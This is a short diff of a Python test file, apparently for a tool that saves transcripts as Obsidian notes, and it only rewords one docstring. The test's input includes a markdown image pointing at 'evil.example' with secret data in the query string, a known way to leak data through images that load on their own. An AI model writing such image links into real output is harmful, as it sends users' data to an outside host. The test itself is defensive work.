@@ -81,7 +81,7 @@ async def test_a_crash_before_the_transcript_is_made_good_at_the_next_start(tmp_
 
 
 async def test_no_image_of_a_model_or_of_others_is_shown_in_a_note(tmp_path: Path) -> None:
-    """Obsidian fetches an image when its note is opened; a plain address waits for a tap."""
+    """Obsidian fetches an image when the note is opened; a plain URL needs a tap."""
     image = "https://evil.example/?d=secret"
     texts = [
         f"![plan]({image}) [![a]({image})](https://b.example)",
